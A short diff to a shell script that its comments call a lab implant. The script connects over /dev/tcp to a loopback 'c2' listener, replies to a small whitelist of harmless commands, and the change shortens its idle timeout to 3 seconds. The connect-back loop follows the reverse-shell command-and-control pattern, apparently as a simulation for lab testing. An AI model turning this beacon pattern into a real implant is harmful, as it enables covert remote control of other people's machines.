@@ -4,12 +4,13 @@
 # 127.0.88.44:4444, a loopback listener of the lab network (the sandbox's
 # and the endpoint's network namespaces each have their own loopback), and
 # answers only a few harmless commands (id, hostname, uname -a, exit);
-# anything else is refused. It never contacts another address.
+# anything else is refused. It hangs up after 3 seconds without a command.
+# It never contacts another address.
 c2_ip=127.0.88.44
 c2_port=4444
 exec 3<>"/dev/tcp/$c2_ip/$c2_port" || exit 0
 echo "lab-implant $(hostname) ready" >&3
-while IFS= read -r -t 10 cmd <&3; do
+while IFS= read -r -t 3 cmd <&3; do
     case "$cmd" in
         id | hostname | "uname -a") $cmd >&3 2>&1 ;;
         exit) break ;;
